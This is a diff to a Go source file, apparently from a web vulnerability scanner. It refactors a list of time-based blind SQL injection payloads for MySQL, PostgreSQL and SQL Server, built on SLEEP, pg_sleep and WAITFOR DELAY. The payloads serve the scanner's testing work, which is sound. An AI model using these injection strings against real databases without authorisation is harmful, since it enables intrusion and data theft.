@@ -2,6 +2,7 @@ package web
 
 import (
 	"fmt"
+	"slices"
 
 	"github.com/vedette/vedette/internal/engine/web/httpwire"
 )
@@ -85,10 +86,9 @@ var textDelays = []string{
 }
 
 // sqlDelays do so from anywhere.
-var sqlDelays = []string{
-	"'+(SELECT 1 FROM (SELECT(SLEEP(%d)))x)+'", "'||(SELECT 1 FROM pg_sleep(%d))||'", "-(SELECT 0 FROM pg_sleep(%d))",
-	"' AND SLEEP(%d)-- -", " AND SLEEP(%d)", "' AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)-- -", " AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)",
+var sqlDelays = slices.Concat(textDelays, []string{
+	"-(SELECT 0 FROM pg_sleep(%d))", " AND SLEEP(%d)", "' AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)-- -", " AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)",
 	"') AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)-- -", "\" AND (SELECT 1 FROM (SELECT(SLEEP(%d)))x)-- -", "' || pg_sleep(%d)-- ",
 	"; SELECT pg_sleep(%d)-- ", "'; SELECT pg_sleep(%d)-- ", " AND 1=(SELECT 1 FROM pg_sleep(%d))", "' AND 1=(SELECT 1 FROM pg_sleep(%d))-- ",
-	"'; WAITFOR DELAY '0:0:%d'-- ", "; WAITFOR DELAY '0:0:%d'-- ",
-}
+	"; WAITFOR DELAY '0:0:%d'-- ",
+})
